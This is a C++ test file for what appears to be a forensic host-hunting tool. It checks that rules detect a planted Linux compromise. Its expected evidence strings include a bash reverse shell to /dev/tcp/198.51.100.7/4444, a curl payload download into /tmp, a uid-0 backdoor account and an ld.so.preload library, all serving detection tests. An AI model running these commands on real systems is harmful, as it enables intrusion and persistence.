// Host checks over a real collection: the Linux collector run on a planted compromised host
// (tests/collectors/planted_host.py), hunted with the project's rules/hunt.
#include <catch2/catch.hpp>

#include <cstdio>
#include <filesystem>
#include <map>

#include "kensa/hunt/host_checks.h"
#include "kensa/test_support/command.h"
#include "kensa/hunt/hunt_path.h"
#include "kensa/hunt/sweeps.h"

#include <set>

namespace fs = std::filesystem;

namespace {

std::string CollectPlantedHost(const std::string& dir) {
  fs::remove_all(dir);
  fs::create_directories(dir);
  return kensa::test_support::RunCommand("python3 tests/collectors/planted_host.py " + dir);
}

}  // namespace

TEST_CASE("syslog and ISO times at a line's start become RFC 3339 in the collection's year") {
  using kensa::hunt::LineTimestamp;
  CHECK(LineTimestamp("Nov 26 09:00:01 victim01 sshd[811]: Accepted", "2026-11-26T10:00:00Z") == "2026-11-26T09:00:01Z");
  CHECK(LineTimestamp("Dec  3 23:59:59 host cron[1]: x", "2027-01-02T00:00:00Z") == "2026-12-03T23:59:59Z");
  CHECK(LineTimestamp("2026-11-26T09:00:01+0900 host sshd", "2026-11-26T10:00:00Z") == "2026-11-26T09:00:01Z");
  CHECK(LineTimestamp("curl http://x | sh", "2026-11-26T10:00:00Z").empty());
  CHECK(LineTimestamp("Foo 26 09:00:01 x", "2026-11-26T10:00:00Z").empty());
}

TEST_CASE("bad host check rules are refused with the check named") {
  const std::string dir = (fs::temp_directory_path() / ("kensa-host-checks-" + std::to_string(::getpid()))).string();
  fs::create_directories(dir);
  const std::string file = dir + "/bad.yaml";
  FILE* out = std::fopen(file.c_str(), "w");
  std::fputs("checks:\n  - id: broken\n    title: x\n    level: high\n    artifacts: [cron]\n    match: '(unclosed'\n", out);
  std::fclose(out);
  auto loaded = kensa::hunt::LoadHostChecks({file});
  REQUIRE_FALSE(loaded.has_value());
  CHECK(loaded.error().message().find("check 'broken': bad regular expression") != std::string::npos);
  out = std::fopen(file.c_str(), "w");
  std::fputs("checks:\n  - id: noisy\n    title: x\n    level: severe\n    artifacts: [cron]\n    match: x\n", out);
  std::fclose(out);
  CHECK(kensa::hunt::LoadHostChecks({file}).error().message().find("unknown level 'severe'") != std::string::npos);
  fs::remove_all(dir);
  CHECK(kensa::hunt::LoadHostChecks({"rules/hunt"}).has_value());
}

TEST_CASE("a planted Linux compromise is found, explained, put on a timeline and answered with actions") {
  const std::string dir = (fs::temp_directory_path() / ("kensa-hunt-collection-" + std::to_string(::getpid()))).string();
  const std::string archive = CollectPlantedHost(dir);
  auto checks = kensa::hunt::LoadHostChecks({"rules/hunt"});
  REQUIRE(checks.has_value());
  kensa::hunt::HuntConfig config;
  auto report = kensa::hunt::HuntCollection(archive, nullptr, *checks, config);
  REQUIRE(report.has_value());

  CHECK(report->verdict() == kensa::forensics::v1::HUNT_VERDICT_COMPROMISED);
  CHECK(report->verdict_reason() == "2 critical matches (top rule: A shell history shows a reverse shell)");
  CHECK(report->collection().manifest().host().hostname() == "victim01");

  std::map<std::string, const kensa::forensics::v1::Finding*> by_rule;
  for (const auto& finding : report->findings()) by_rule.emplace(finding.rule_id(), &finding);
  for (const char* rule : {"linux_ld_so_preload", "linux_cron_download_and_run", "linux_cron_runs_from_temp",
                           "linux_systemd_unit_from_temp", "linux_history_download_and_run",
                           "linux_history_anti_forensics", "linux_history_reverse_shell", "linux_elf_in_temp",
                           "linux_suid_outside_system_folders", "linux_ssh_bruteforce", "linux_ssh_login_accepted",
                           "linux_user_added", "linux_uid0_account", "linux_ssh_authorized_key"}) {
    INFO(rule);
    CHECK(by_rule.count(rule) == 1);
  }
  // Nothing planted for these: a check that fires on a clean item is a false positive.
  CHECK(by_rule.count("linux_ssh_root_authorized_key") == 0);
  CHECK(by_rule.count("linux_process_deleted_executable") == 0);

  const auto& preload = *by_rule.at("linux_ld_so_preload");
  CHECK(preload.evidence() == "/usr/lib/x86_64-linux-gnu/libsneaky.so");
  CHECK(preload.location() == "files/etc/ld.so.preload:1");
  CHECK(preload.source_file() == "/etc/ld.so.preload");
  CHECK(preload.source() == "host_check");
  CHECK(preload.attack_techniques(0) == "T1574.006");
  CHECK(preload.title_ja() == "/etc/ld.so.preload が全プロセスにライブラリを読み込ませています");
  CHECK(by_rule.at("linux_history_reverse_shell")->evidence() == "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1");
  // The history is Shift_JIS: its comment "更新" reaches the report as UTF-8.
  CHECK(by_rule.at("linux_history_download_and_run")->evidence() ==
        "curl -o /tmp/.x/payload http://198.51.100.7/p  # \xE6\x9B\xB4\xE6\x96\xB0");
  CHECK(by_rule.at("linux_uid0_account")->evidence() == "sysupdate:x:0:0::/root:/bin/bash");
  CHECK(by_rule.at("linux_suid_outside_system_folders")->evidence().rfind("/usr/local/bin/dbus-helper\t4755", 0) == 0);
  CHECK(by_rule.at("linux_ssh_bruteforce")->evidence().rfind("25 matching lines; first: Nov 26 08:00:00", 0) == 0);
  CHECK(by_rule.at("linux_ssh_bruteforce")->timestamp() == "2026-11-26T08:00:00Z");

  // The timeline puts the guessing before the login and the login before the new root account.
  std::vector<std::string> sequence;
  for (const auto& event : report->timeline()) {
    if (event.description().find("Accepted password for alice") != std::string::npos) sequence.push_back("login");
    if (event.description().find("new user: name=sysupdate") != std::string::npos) sequence.push_back("useradd");
    if (event.description().find("Many failed SSH logins") != std::string::npos) sequence.push_back("guessing");
  }
  REQUIRE(sequence.size() >= 3);
  CHECK(sequence[0] == "guessing");
  CHECK(std::find(sequence.begin(), sequence.end(), "login") < std::find(sequence.begin(), sequence.end(), "useradd"));

  REQUIRE(report->recommended_actions_size() >= 3);
  CHECK(report->recommended_actions(0).rfind("Isolate the host", 0) == 0);
  CHECK(report->recommended_actions_ja(0).rfind("調査が終わるまでホストをネットワークから隔離", 0) == 0);
  fs::remove_all(dir);
}

TEST_CASE("known-bad indicators and YARA rules are swept over a collection") {
  const std::string dir = (fs::temp_directory_path() / ("kensa-hunt-sweeps-" + std::to_string(::getpid()))).string();
  const std::string archive = CollectPlantedHost(dir);
  // The planted payload is a copy of /bin/true; its sha256 is the known-bad hash here.
  const std::string digest = kensa::test_support::RunCommand("sha256sum < /bin/true").substr(0, 64);
  const std::string iocs_file = dir + "/intel.txt";
  FILE* out = std::fopen(iocs_file.c_str(), "w");
  std::fprintf(out, "# campaign X\n198.51.100.7\n%s\nunrelated.example.org\n", digest.c_str());
  std::fclose(out);
  const std::string report_file = dir + "/triage.json";
  out = std::fopen(report_file.c_str(), "w");
  std::fputs(R"({"submission": {"sample": {"hashes": {"sha256": "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"}}},
                 "indicators": [{"type": "INDICATOR_TYPE_URL", "value": "https://cdn.evil.example/p"}], "futureField": 1})", out);
  std::fclose(out);

  auto iocs = kensa::indicators::LoadIocFiles({iocs_file, report_file});
  REQUIRE(iocs.has_value());
  using Origins = std::map<std::string, std::string>;
  CHECK(iocs->ips == Origins{{"198.51.100.7", iocs_file + ":2"}});
  CHECK(iocs->hashes.at(digest) == iocs_file + ":3");
  CHECK(iocs->hashes.at(std::string(64, 'a')) == report_file);
  CHECK(iocs->domains == Origins{{"cdn.evil.example", report_file}, {"unrelated.example.org", iocs_file + ":4"}});

  auto rules = kensa::yara_scan::RuleSet::CompileSource(
      "rule kensa_test_elf_in_temp { meta: severity = \"high\" description = \"an ELF file\" "
      "strings: $elf = { 7F 45 4C 46 } condition: $elf at 0 }");
  REQUIRE(rules.has_value());
  auto checks = kensa::hunt::LoadHostChecks({"rules/hunt"});
  REQUIRE(checks.has_value());
  kensa::hunt::CollectionSweeps sweeps;
  sweeps.iocs = &*iocs;
  sweeps.yara = rules->get();
  auto report = kensa::hunt::HuntCollection(archive, nullptr, *checks, kensa::hunt::HuntConfig{}, sweeps);
  REQUIRE(report.has_value());

  std::multimap<std::string, const kensa::forensics::v1::Finding*> by_rule;
  for (const auto& finding : report->findings()) by_rule.emplace(finding.rule_id(), &finding);
  REQUIRE(by_rule.count("ioc_known_bad_file") == 1);
  CHECK(by_rule.find("ioc_known_bad_file")->second->source_file() == "/tmp/.x/payload");
  CHECK(by_rule.find("ioc_known_bad_file")->second->level() == "critical");
  // The payload is listed among recent executables, and its SUID copy among SUID files.
  std::set<std::string> listings;
  for (auto [it, end] = by_rule.equal_range("ioc_known_bad_hash_in_listing"); it != end; ++it) {
    const std::string& location = it->second->location();
    listings.insert(location.substr(0, location.find(':')));
  }
  CHECK(listings == std::set<std::string>{"commands/recent_executables.txt", "commands/suid.txt"});
  // 198.51.100.7 is in the crontab and twice in alice's history (curl, /dev/tcp).
  std::set<std::string> where;
  for (auto [it, end] = by_rule.equal_range("ioc_known_bad_address"); it != end; ++it) where.insert(it->second->source_file());
  CHECK(where == std::set<std::string>{"/etc/crontab", "/home/alice/.bash_history"});
  CHECK(by_rule.find("ioc_known_bad_address")->second->evidence().ends_with(" [known bad: " + iocs_file + ":2]"));
  CHECK(report->stats().indicators_swept() == 5);
  CHECK(by_rule.count("ioc_known_bad_domain") == 0);  // neither domain is on the host
  REQUIRE(by_rule.count("yara:kensa_test_elf_in_temp") == 1);
  CHECK(by_rule.find("yara:kensa_test_elf_in_temp")->second->level() == "high");
  CHECK(by_rule.find("yara:kensa_test_elf_in_temp")->second->source() == "yara");
  bool hit = false;
  for (const auto& rule_hit : report->rule_hits()) hit |= rule_hit.rule_id() == "ioc_known_bad_file";
  CHECK(hit);
  fs::remove_all(dir);
}
